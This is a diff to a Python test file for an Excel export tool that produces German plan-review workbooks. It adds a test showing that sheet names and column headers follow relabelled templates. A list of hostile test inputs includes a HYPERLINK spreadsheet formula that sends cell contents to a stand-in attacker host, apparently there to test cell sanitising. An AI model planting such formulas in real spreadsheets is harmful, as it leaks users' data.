@@ -9,7 +9,7 @@ import pytest
 from conftest import run_cli
 from openpyxl import Workbook
 
-from planreview.export.workbook import ALL_SHEET, SHEET_ORDER, SUMMARY_SHEET, safe_cell
+from planreview.export.workbook import SHEET_ORDER, SUMMARY_SHEET, safe_cell
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
@@ -120,7 +120,7 @@ def test_sheets_one_per_class_and_a_summary(exported):
         "Nach Handlungsfeld",
         "Prüfprotokoll",
     ]
-    assert (ALL_SHEET, SUMMARY_SHEET) == ("Alle Maßnahmen", "Nach Handlungsfeld")
+    assert SUMMARY_SHEET == "Nach Handlungsfeld"
     assert exported.properties.language == "de-DE"
     for sheet in exported.worksheets:
         assert sheet.freeze_panes in ("A2", "B2", "C2"), sheet.title
@@ -134,7 +134,7 @@ def _rows(sheet):
 
 
 def test_all_measures_with_both_statuses_and_the_change(exported):
-    rows = _rows(exported[ALL_SHEET])
+    rows = _rows(exported["Alle Maßnahmen"])
     got = [(r["Nr."], r["Status 2019"], r["Status 2020"], r["Veränderung"]) for r in rows]
     assert got == [
         ("1.1", "in Umsetzung", "umgesetzt", "Vorangekommen"),
@@ -239,6 +239,46 @@ def test_the_change_classes_named_by_the_templates_used(tmp_path):
     assert exported.sheetnames[1] == "Weiter"
     (row,) = _rows(exported["Alle Maßnahmen"])
     assert row["Veränderung"] == "Weiter"
+
+
+def test_the_columns_and_the_list_of_all_measures_named_as_the_report_names_them(tmp_path):
+    """The words the workbook shares with the report come from the templates' labels.toml:
+    reworded there, the report and the workbook (and the JSON's no-lead name) say the same."""
+    import json
+    import shutil
+
+    from planreview.resources import default_templates
+
+    templates = tmp_path / "vorlagen"
+    shutil.copytree(default_templates(), templates)
+    labels = templates / "labels.toml"
+    text = labels.read_text(encoding="utf-8")
+    for old, new in (  # the German table comes first
+        ('all_measures = "Alle Maßnahmen"', 'all_measures = "Gesamtliste: alle"'),
+        ('lead = "Federführung"', 'lead = "Zuständigkeit"'),
+        ('status_in = "Status {year}"', 'status_in = "Stand {year}"'),
+        ('no_lead = "ohne Federführung"', 'no_lead = "nicht zugeordnet"'),
+    ):
+        assert old in text, old
+        text = text.replace(old, new, 1)
+    labels.write_text(text, encoding="utf-8")
+    inputs = tmp_path / "inputs"
+    kurs = ["1.1", "Sprache", "Kurs", "VHS", "2021", "laufend", "", ""]
+    _csv(inputs / "Stand_2019.csv", [kurs, ["1.2", "Sprache", "Treff", "", "", "laufend", "", ""]])
+    _csv(inputs / "Stand_2020.csv", [kurs])  # 1.2, without a lead, not answered
+    target, summary = tmp_path / "vergleich.xlsx", tmp_path / "z.json"
+    code, _, err = run_cli(
+        "build", "--inputs", str(inputs), "--no-pdf", "-q", "--templates", str(templates),
+        "--xlsx", str(target), "--json", str(summary),
+    )  # fmt: skip
+    assert code == 0, err
+    exported = openpyxl.load_workbook(target)
+    assert exported.sheetnames[0] == "Gesamtliste alle"  # ":" is refused in a sheet name
+    heads = [c.value for c in next(exported["Gesamtliste alle"].iter_rows(max_row=1))]
+    assert heads[:6] == ["Nr.", "Maßnahme", "Handlungsfeld", "Zuständigkeit", "Stand 2019",
+                         "Stand 2020"]  # fmt: skip
+    (outstanding,) = json.loads(summary.read_text(encoding="utf-8"))["responses"]["outstanding"]
+    assert (outstanding["lead"], outstanding["missing"]) == ("nicht zugeordnet", ["1.2"])
 
 
 def test_a_change_class_name_excel_refuses_becomes_a_sheet_name_it_takes(tmp_path):
